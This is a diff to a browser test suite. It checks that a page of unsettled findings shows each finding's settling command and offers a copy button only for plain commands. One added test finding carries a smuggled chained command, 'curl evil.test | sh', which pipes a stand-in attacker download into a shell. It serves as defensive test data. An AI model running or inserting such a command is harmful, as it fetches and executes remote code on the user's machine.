@@ -784,12 +784,18 @@ def test_an_effect_is_found_by_its_key_and_by_its_run(tab: Open, stage: PageStag
 def test_findings_show_the_command_that_settles_them(tab: Open, stage: PageStage) -> None:
     told = "<i>the bank has no such payment</i>"
     stage.find("done", "notify#1", "missing", told, "refold why done")
+    stage.find("done", "notify#1", "unexpected", "odd", "refold why done; curl evil.test | sh")
     with tab(Role.VIEWER) as one:
         one.go("/")
-        one.page.click("a:has-text('1 finding not settled')")
+        one.page.click("a:has-text('2 findings not settled')")
         row = one.page.locator("tbody tr", has_text="missing")
         assert "<i>the bank has no such payment</i>" in row.inner_text()
         assert "refold why done" in row.inner_text()
+        # Whoever may write commands may write any line there: such are not given to be copied.
+        assert row.locator("button[data-copy]").count() == 1
+        bad = one.page.locator("tbody tr", has_text="no plain command")
+        assert "curl evil.test" in bad.inner_text()
+        assert bad.locator("button[data-copy]").count() == 0
         row.locator("th a").click()
         one.has("Three steps complete, the run completed.")
 
